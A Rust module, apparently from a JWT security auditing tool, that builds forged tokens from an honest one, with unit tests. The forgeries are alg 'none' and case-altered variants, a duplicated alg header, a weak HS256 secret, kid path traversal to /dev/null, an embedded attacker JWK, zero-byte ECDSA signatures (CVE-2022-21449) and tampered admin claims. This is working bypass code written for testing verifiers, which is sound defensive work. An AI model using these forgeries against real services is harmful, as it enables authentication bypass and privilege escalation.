//! Tokens as an attacker makes them, who has one of his own and no key (RFC 7515, RFC 8725).

use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use jsonwebtoken::{Algorithm, EncodingKey, crypto};
use serde_json::{Map, Value, json};

/// PKCS #8 before the 32 bytes of an Ed25519 seed (RFC 8410 §7).
const ED25519: [u8; 16] = *b"\x30\x2e\x02\x01\x00\x30\x05\x06\x03\x2b\x65\x70\x04\x22\x04\x20";

/// The attacker's own key.
const SEED: [u8; 32] = [0x42; 32];

/// A secret that many have left as it was.
const WEAK_SECRET: &[u8] = b"secret";

/// A token (JWT) in its parts.
#[derive(Debug)]
pub(crate) struct Jwt<'a> {
    header: &'a str,
    payload: &'a str,
    signature: &'a str,
    fields: Map<String, Value>,
    claims: Map<String, Value>,
}

impl<'a> Jwt<'a> {
    /// Takes a token apart; `None` if it is no JWT.
    pub(crate) fn parse(token: &'a str) -> Option<Self> {
        let mut parts = token.split('.');
        let (header, payload, signature) = (parts.next()?, parts.next()?, parts.next()?);
        if parts.next().is_some() || signature.is_empty() {
            return None;
        }
        let object = |part: &str| serde_json::from_slice(&URL_SAFE_NO_PAD.decode(part).ok()?).ok();
        Some(Self { header, payload, signature, fields: object(header)?, claims: object(payload)? })
    }

    /// Returns when the token expires, in seconds since the Unix epoch.
    pub(crate) fn expires(&self) -> Option<u64> {
        let exp = self.claims.get("exp")?;
        exp.as_u64().or_else(|| format!("{:.0}", exp.as_f64()?).parse().ok())
    }

    /// Changes one bit of the signature.
    pub(crate) fn tampered_signature(&self) -> Option<String> {
        let mut bytes = URL_SAFE_NO_PAD.decode(self.signature).ok()?;
        *bytes.first_mut()? ^= 1;
        Some(self.with(self.header, &URL_SAFE_NO_PAD.encode(bytes)))
    }

    /// Says to be somebody else, under the old signature.
    pub(crate) fn tampered_claims(&self) -> Option<String> {
        self.with_claims(&[("sub", json!("postern-audit")), ("admin", json!(true))])
    }

    /// Says to be good for much longer, under the old signature.
    pub(crate) fn prolonged(&self) -> Option<String> {
        self.with_claims(&[("exp", json!(self.expires()?.saturating_add(1_000_000_000)))])
    }

    fn with_claims(&self, claims: &[(&str, Value)]) -> Option<String> {
        let mut all = self.claims.clone();
        all.extend(claims.iter().map(|(name, value)| ((*name).to_owned(), value.clone())));
        let payload = URL_SAFE_NO_PAD.encode(serde_json::to_vec(&all).ok()?);
        Some(format!("{}.{payload}.{}", self.header, self.signature))
    }

    /// Takes the signature away.
    pub(crate) fn unsigned(&self) -> Option<String> {
        Some(self.with(self.header, ""))
    }

    /// Says that there is no algorithm, and takes the signature away.
    pub(crate) fn algorithm_none(&self) -> Option<String> {
        self.with_algorithm("none", "")
    }

    /// Says so in other letters, which some lists of forbidden words do not have.
    pub(crate) fn algorithm_none_in_capitals(&self) -> Option<String> {
        self.with_algorithm("nOnE", "")
    }

    /// Says `alg` twice, `none` first, and takes the signature away.
    pub(crate) fn algorithm_twice(&self) -> Option<String> {
        let fields = serde_json::to_string(&self.fields).ok()?;
        let header = fields.replacen('{', r#"{"alg":"none","#, 1);
        Some(self.with(&URL_SAFE_NO_PAD.encode(header), ""))
    }

    /// Signs by a secret that is no secret.
    pub(crate) fn weak_secret(&self) -> Option<String> {
        self.resigned(&self.fields_with(&[("alg", json!("HS256"))]), Algorithm::HS256, WEAK_SECRET)
    }

    /// Signs by an empty secret, that of a file which `kid` leads to.
    pub(crate) fn key_of_a_file(&self) -> Option<String> {
        let fields =
            self.fields_with(&[("alg", json!("HS256")), ("kid", json!("../../../../../../dev/null"))]);
        self.resigned(&fields, Algorithm::HS256, b"")
    }

    /// Signs by a key of the attacker's, and brings it along.
    pub(crate) fn key_brought_along(&self) -> Option<String> {
        let key = EncodingKey::from_ed_der(&[&ED25519[..], &SEED].concat());
        let jwk = jsonwebtoken::jwk::Jwk::from_encoding_key(&key, Algorithm::EdDSA).ok()?;
        let fields = self.fields_with(&[("alg", json!("EdDSA")), ("jwk", serde_json::to_value(jwk).ok()?)]);
        let header = URL_SAFE_NO_PAD.encode(serde_json::to_vec(&fields).ok()?);
        self.signed_by(&header, &key, Algorithm::EdDSA)
    }

    /// Gives an ECDSA signature of zeros, which verifiers have taken for one of anything (CVE-2022-21449).
    pub(crate) fn signature_of_zeros(&self) -> Option<String> {
        self.with_algorithm("ES256", &URL_SAFE_NO_PAD.encode([0; 64]))
    }

    fn with(&self, header: &str, signature: &str) -> String {
        format!("{header}.{}.{signature}", self.payload)
    }

    fn with_algorithm(&self, algorithm: &str, signature: &str) -> Option<String> {
        let header = serde_json::to_vec(&self.fields_with(&[("alg", json!(algorithm))])).ok()?;
        Some(self.with(&URL_SAFE_NO_PAD.encode(header), signature))
    }

    fn fields_with(&self, fields: &[(&str, Value)]) -> Map<String, Value> {
        let mut all = self.fields.clone();
        all.extend(fields.iter().map(|(name, value)| ((*name).to_owned(), value.clone())));
        all
    }

    fn resigned(&self, fields: &Map<String, Value>, algorithm: Algorithm, secret: &[u8]) -> Option<String> {
        let header = URL_SAFE_NO_PAD.encode(serde_json::to_vec(fields).ok()?);
        self.signed_by(&header, &EncodingKey::from_secret(secret), algorithm)
    }

    fn signed_by(&self, header: &str, key: &EncodingKey, algorithm: Algorithm) -> Option<String> {
        let signed = format!("{header}.{}", self.payload);
        let signature = crypto::sign(signed.as_bytes(), key, algorithm).ok()?;
        Some(format!("{signed}.{signature}"))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::audit::honest::tests::honest;

    #[test]
    fn no_forged_token_is_the_honest_one_and_each_is_another() {
        let token = honest().token.unwrap();
        let jwt = Jwt::parse(&token).unwrap();
        assert_eq!(jwt.expires(), Some(4_102_444_800));
        let forged = [
            jwt.tampered_signature(),
            jwt.tampered_claims(),
            jwt.prolonged(),
            jwt.unsigned(),
            jwt.algorithm_none(),
            jwt.algorithm_none_in_capitals(),
            jwt.algorithm_twice(),
            jwt.weak_secret(),
            jwt.key_of_a_file(),
            jwt.key_brought_along(),
            jwt.signature_of_zeros(),
        ];
        let distinct: std::collections::BTreeSet<String> = forged.into_iter().map(Option::unwrap).collect();
        assert_eq!(distinct.len(), 11);
        assert!(!distinct.contains(&token));
        for forged in &distinct {
            assert_eq!(forged.split('.').count(), 3, "{forged}");
        }
        let twice =
            URL_SAFE_NO_PAD.decode(jwt.algorithm_twice().unwrap().split('.').next().unwrap()).unwrap();
        assert_eq!(twice, br#"{"alg":"none","alg":"HS256"}"#);
    }

    #[test]
    fn what_is_no_token_is_not_taken_apart() {
        for text in ["", "opaque", "a.b.c", "e30.e30.", "e30.e30.x.y", "W10.e30.x"] {
            assert!(Jwt::parse(text).is_none(), "{text}");
        }
        assert!(Jwt::parse("e30.e30.x").unwrap().prolonged().is_none(), "a token without `exp`");
    }
}
